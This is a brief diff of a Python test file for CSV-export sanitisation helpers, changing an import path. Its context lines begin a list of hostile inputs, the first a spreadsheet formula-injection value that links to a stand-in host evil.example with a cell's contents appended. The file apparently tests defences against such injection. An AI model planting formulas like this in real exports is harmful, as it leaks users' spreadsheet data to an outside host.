@@ -13,7 +13,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from shared.exports import FORMULA_STARTS, csv_text, is_number, safe_cell
+from shared.http.exports import FORMULA_STARTS, csv_text, is_number, safe_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"open")',
